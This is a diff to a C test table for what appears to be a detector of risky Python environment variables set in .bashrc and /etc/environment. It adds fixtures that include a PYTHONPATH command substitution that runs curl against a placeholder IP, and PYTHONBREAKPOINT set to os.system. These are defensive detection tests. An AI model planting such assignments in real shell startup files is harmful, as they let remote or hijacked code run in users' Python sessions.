@@ -418,7 +418,8 @@ static const struct assignment_case {
 	{ "/home/a/.bashrc", "PYTHONPYCACHEPREFIX", BYTES_LIT("$HOME/.cache/py"), "path-variable", PLACE_HIDDEN, false },
 	{ "/home/a/.bashrc", "PYTHONPYCACHEPREFIX", BYTES_LIT("/tmp/py"), "unsafe-path path-variable", PLACE_TEMPORARY, false },
 	{ "/home/a/.bashrc", "PYTHONPLATLIBDIR", BYTES_LIT("lib64"), "path-variable", PLACE_RELATIVE, false },
-	{ "/home/a/.bashrc", "PYTHONPLATLIBDIR", BYTES_LIT("../../tmp/x"), "path-variable", PLACE_RELATIVE, false },
+	{ "/home/a/.bashrc", "PYTHONPLATLIBDIR", BYTES_LIT("../../tmp/x"), "unsafe-path path-variable", PLACE_RELATIVE,
+	  false },
 	{ "/home/a/.bashrc", "PYTHONSTARTUP", BYTES_LIT("/home/a/.rc.py"), "startup-variable", 0, false },
 	{ "/home/a/.bashrc", "PYTHONSTARTUP", BYTES_LIT("/home/a/.cache/.s.py"), "unsafe-path startup-variable", PLACE_HIDDEN, false },
 	{ "/etc/environment", "PYTHONEXECUTABLE", BYTES_LIT("/usr/bin/python3"), "hijack-variable", 0, false },
@@ -429,6 +430,12 @@ static const struct assignment_case {
 	{ "/etc/environment", "PYTHONWARNINGS", BYTES_LIT("ignore:a.b"), "", 0, false },	/* the message */
 	{ "/etc/environment", "PYTHONWARNINGS", BYTES_LIT("ignore::a.b"), "hijack-variable", 0, false },
 	{ "/etc/environment", "PYTHONBREAKPOINT", BYTES_LIT("ipdb.set_trace"), "", 0, false },
+	{ "/etc/environment", "PYTHONBREAKPOINT", BYTES_LIT("os.system"), "hijack-variable", 0, false },
+	{ "/home/a/.bashrc", "PYTHONPATH", BYTES_LIT("$(curl -s http://198.51.100.7/p)"), "network path-variable", PLACE_UNDECIDABLE,
+	  true },
+	{ "/home/a/.bashrc", "PYTHONPATH", BYTES_LIT("$(git rev-parse --show-toplevel)/src"), "path-variable", PLACE_UNDECIDABLE,
+	  true },
+	{ "/home/a/.bashrc", "PYTHONSTARTUP", BYTES_LIT("/home/a/.config/python/rc.py"), "startup-variable", 0, false },
 	{ "/etc/environment", "PYTHONINSPECT", BYTES_LIT("1"), "", 0, false },
 	{ "/etc/environment", "PYTHONUNBUFFERED", BYTES_LIT("/tmp/x"), "", 0, false },
 };
